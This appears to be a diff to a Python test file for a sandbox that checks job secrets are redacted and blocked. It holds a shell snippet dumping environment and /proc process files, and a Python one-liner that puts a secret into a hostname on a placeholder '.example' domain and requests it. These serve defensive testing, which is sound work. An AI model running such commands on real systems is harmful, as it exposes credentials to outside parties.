@@ -24,6 +24,8 @@ from worker.sandboxes.bwrap.provider import BwrapProvider
 pytestmark = pytest.mark.needs("git", "valkey", "bwrap")
 
 PACKAGE_TOKEN = "npm_0123456789abcdefghijABCDEFGHIJ"
+HOST_LIKE_TOKEN = "tok-0123456789abcdefghij"
+"""One that may stand where a host's name does."""
 LOOK_EVERYWHERE = r"""
 env; set
 for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps; do cat "$f"; done
@@ -48,9 +50,16 @@ def made(tmp_path: Path) -> Iterator[Bench]:
     token = tmp_path / "keys" / "token"
     token.touch(mode=0o600)
     token.write_text(PACKAGE_TOKEN)
+    host_like = tmp_path / "keys" / "host-like"
+    host_like.touch(mode=0o600)
+    host_like.write_text(HOST_LIKE_TOKEN)
     settings = {
         "models": {"paid": ModelProvider(base_url="http://127.0.0.1:9", key_file=file)},
-        "secrets": {"NPM_TOKEN": SecretSetting(file=token), "GONE": SecretSetting(env="TATIN_TEST_NOT_SET")},
+        "secrets": {
+            "NPM_TOKEN": SecretSetting(file=token),
+            "HOST_LIKE": SecretSetting(file=host_like),
+            "GONE": SecretSetting(env="TATIN_TEST_NOT_SET"),
+        },
     }
     with bench(tmp_path, lambda home: BwrapProvider(home, home.id()), **settings) as bench_made:
         yield bench_made
@@ -104,6 +113,18 @@ async def test_a73_a_job_secret_is_in_the_guest_and_nowhere_else(made: Bench) ->
     assert b"***" in shown
     assert not redactor.holds(shown)
     assert not redactor.holds(made.store.job(job.id).model_dump_json().encode())
+
+
+async def test_a73_a_secret_asked_for_as_a_host_is_not_told_as_what_was_blocked(made: Bench) -> None:
+    """A73: what Tatin says of a denied host is the guest's own words."""
+    ask = "import os, urllib.request as u; u.urlopen('http://' + os.environ['HOST_LIKE'] + '.example/')"
+    job, result = await made.run(command=f'python3 -c "{ask}"; true', secrets=("HOST_LIKE",))
+    assert result.network is not None
+    assert [denied.where for denied in result.network.denied] == ["***.example:80"]
+    shown = b"".join(chunk.data for chunk in made.store.read_log(job.id))
+    assert b"blocked: ***.example:80" in shown
+    assert HOST_LIKE_TOKEN.encode() not in shown
+    assert [path for path, data in _all_bytes(made.home.jobs) if HOST_LIKE_TOKEN.encode() in data] == []
 
 
 async def test_a72_no_process_of_the_host_has_a_job_secret_in_its_arguments(made: Bench) -> None:
